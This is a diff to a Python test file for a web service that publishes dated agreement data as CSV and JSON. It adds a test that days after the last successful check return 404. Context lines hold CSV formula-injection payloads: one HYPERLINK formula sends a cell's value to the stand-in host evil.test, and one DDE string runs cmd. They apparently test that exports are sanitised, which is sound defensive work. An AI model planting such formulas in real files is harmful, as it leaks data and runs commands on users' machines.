@@ -18,7 +18,7 @@ from tests.web.builders import PENDING, Browser, Log, applied, at, changed, conf
 from tests.web.test_safety import everywhere
 
 ReadAt = Callable[[datetime], Browser]
-BASELINE, NOW = at("2025-08-10 14:00"), at("2025-10-02 12:00")
+BASELINE, LAST_LOOK, NOW = at("2025-08-10 14:00"), at("2025-10-02 11:00"), at("2025-10-02 12:00")
 FORMULAS = (
     '=HYPERLINK("https://evil.test?"&A1,"Total")',
     "+1+cmd|' /C calc'!A0",
@@ -47,6 +47,7 @@ def told(log: Log) -> Log:
     log.publishes(at("2025-08-23 14:00"), confirmed(1, left), new(row("Ashlar", state="TEXAS")))
     log.publishes(at("2025-09-05 14:00"), changed(2, row("Tallow Creek Police", state="TEXAS", signed="2025-09-01")))
     log.publishes(at("2025-09-06 14:00"), applied(row("Dunmarsh")), list_=PENDING)
+    log.looks(LAST_LOOK)
     return log
 
 
@@ -108,6 +109,18 @@ def test_a_past_day_shows_the_cells_of_that_day(told: Log, read_at: ReadAt) -> N
 def test_a_day_of_which_nothing_is_known_is_not_an_empty_list(told: Log, read_at: ReadAt, day: str) -> None:
     assert read_at(NOW).get(f"/data/agreements.csv?as-of={day}").status == 404
     assert read_at(NOW).get(f"/data/agreements-{day}.json").status == 404
+
+
+def test_nothing_is_said_of_a_day_after_the_last_look(told: Log, read_at: ReadAt) -> None:
+    a_year_on = read_at(at("2026-10-02 12:00"))
+    late = a_year_on.get("/data/agreements.csv?as-of=2025-10-03")
+    assert late.status == 404
+    assert "not checked successfully after 2 October 2025, 7:00 am EDT" in late.one(".lead")
+    assert [name for name in a_year_on.get("/data/").links() if "agreements-" in name and name.endswith("json")] == [
+        "/data/agreements-2025-09-30.json",
+        "/data/agreements-2025-08-31.json",
+    ]
+    assert asked(a_year_on, "/data/agreements-2025-09-30.json")["checked_at"] == "2025-09-05T14:00:00Z"
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
